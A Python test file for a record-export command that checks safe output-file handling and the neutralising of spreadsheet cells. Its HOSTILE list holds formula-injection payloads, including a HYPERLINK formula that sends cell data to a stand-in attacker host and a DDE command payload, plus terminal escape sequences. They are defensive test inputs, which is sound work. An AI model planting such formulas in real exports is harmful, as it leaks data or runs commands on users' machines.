"""``kinerja export -o``: only regular files, never over one without --force; safe CSV cells."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import orjson
import pytest

from store import open_store
from sync.commands.spreadsheet import safe_cell, safe_text
from tests.sync.commands_helpers import kinerja
from tests.sync.devices import training

NIP = "198001012005011042"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    profile = tmp_path / "profile"
    store = open_store(profile)
    store.records.edit("training", "t1", training(title="Diklat PIM"), owner=NIP, by=NIP)
    return profile


def export(home: Path, *args: str) -> tuple[int, str]:
    result = kinerja(home, "export", *args)
    assert "Traceback" not in result.stderr
    return result.returncode, result.stderr


def test_a_new_file_is_written_private_and_whole(home: Path, tmp_path: Path) -> None:
    target = tmp_path / "backup.json"
    assert export(home, "-o", str(target)) == (0, "")
    assert [r["id"] for r in orjson.loads(target.read_bytes())["records"]] == ["t1"]
    assert target.stat().st_mode & 0o077 == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["backup.json", "profile"]  # no temp left


def test_an_existing_file_is_replaced_only_with_force(home: Path, tmp_path: Path) -> None:
    target = tmp_path / "backup.json"
    target.write_text("keep me")
    code, stderr = export(home, "-o", str(target))
    assert code == 2 and "--force" in stderr and len(stderr.strip().splitlines()) == 1
    assert target.read_text() == "keep me"
    assert export(home, "-o", str(target), "--force")[0] == 0
    assert orjson.loads(target.read_bytes())["kinerja_export"] == 1


def test_a_fifo_is_refused_even_with_force(home: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    code, stderr = export(home, "-o", str(fifo), "--force")  # would block if it were opened
    assert code == 2 and "not a regular file" in stderr
    assert fifo.is_fifo()


def test_a_device_node_is_refused_even_with_force(home: Path) -> None:
    code, stderr = export(home, "-o", "/dev/null", "--force")
    assert code == 2 and "not a regular file" in stderr
    assert Path("/dev/null").is_char_device()


def test_a_folder_is_refused(home: Path, tmp_path: Path) -> None:
    code, stderr = export(home, "-o", str(tmp_path), "--force")
    assert code == 2 and "not a regular file" in stderr


def test_a_symlink_is_never_written_through(home: Path, tmp_path: Path) -> None:
    precious = tmp_path / "precious.txt"
    precious.write_text("do not touch")
    link = tmp_path / "link.json"
    link.symlink_to(precious)
    for extra in ((), ("--force",)):
        code, stderr = export(home, "-o", str(link), *extra)
        assert code == 2 and "symbolic link" in stderr
    assert link.is_symlink() and precious.read_text() == "do not touch"


def test_a_missing_folder_is_one_line(home: Path, tmp_path: Path) -> None:
    code, stderr = export(home, "-o", str(tmp_path / "nowhere" / "x.json"))
    assert code == 2 and "does not exist" in stderr


def test_the_refusal_is_indonesian_by_default(home: Path, tmp_path: Path) -> None:
    target = tmp_path / "ada.json"
    target.write_text("")
    result = kinerja(home, "export", "-o", str(target), KINERJA_LANG="")
    assert result.returncode == 2 and "sudah ada" in result.stderr


HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"klik")': "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "\u240d=1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "Diklat \x1b[31mmerah\x1b[0m": "Diklat \u241b[31mmerah\u241b[0m",
    "bel\x07 del\x7f c1\x9b": "bel\u2407 del\u2421 c1\ufffd",
    "Diklat biasa, baris\ndua": "Diklat biasa, baris\ndua",
}


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_cells_are_neutralised_as_spreadsheet_safe_exporters_do(text: str) -> None:
    assert safe_text(text).startswith(HOSTILE[text])
    assert not any(ord(c) < 0x20 and c not in "\t\n" for c in safe_text(text))


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert (safe_cell(-5), safe_cell(2.5), safe_cell(None), safe_cell(True)) == (
        -5,
        2.5,
        "",
        "True",
    )


def test_the_csv_file_carries_no_formula_and_no_escape(home: Path, tmp_path: Path) -> None:
    store = open_store(home)
    for n, title in enumerate(HOSTILE):
        store.records.edit("training", f"h{n}", training(title=title), owner=NIP, by=NIP)
    target = tmp_path / "pelatihan.csv"
    assert export(home, "--format", "csv", "--collection", "training", "-o", str(target))[0] == 0
    raw = target.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
    titles = {row["title"] for row in rows}
    assert titles == {safe_text(title) for title in HOSTILE} | {"Diklat PIM"}
    assert not any(title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)
    assert {row["jp"] for row in rows} == {"20"}


def test_xlsx_writes_a_sheet_per_collection_to_a_file_only(home: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    store = open_store(home)
    store.records.edit("training", "t2", training(title="=HYPERLINK(1)", jp=12), owner=NIP, by=NIP)
    code, stderr = export(home, "--format", "xlsx")
    assert code == 2 and "-o FILE" in stderr  # a binary workbook never goes to a terminal
    target = tmp_path / "kinerja.xlsx"
    assert export(home, "--format", "xlsx", "-o", str(target)) == (0, "")
    book = load_workbook(target)
    sheet = book[book.sheetnames[0]]
    rows = list(sheet.iter_rows(values_only=True))
    heading = list(rows[0])
    assert "title" in heading and "jp" in heading
    titles = {row[heading.index("title")]: row[heading.index("jp")] for row in rows[1:]}
    assert titles == {"Diklat PIM": training()["jp"], "=HYPERLINK(1)": 12}  # text, typed numbers
    assert sheet.freeze_panes == "A2"
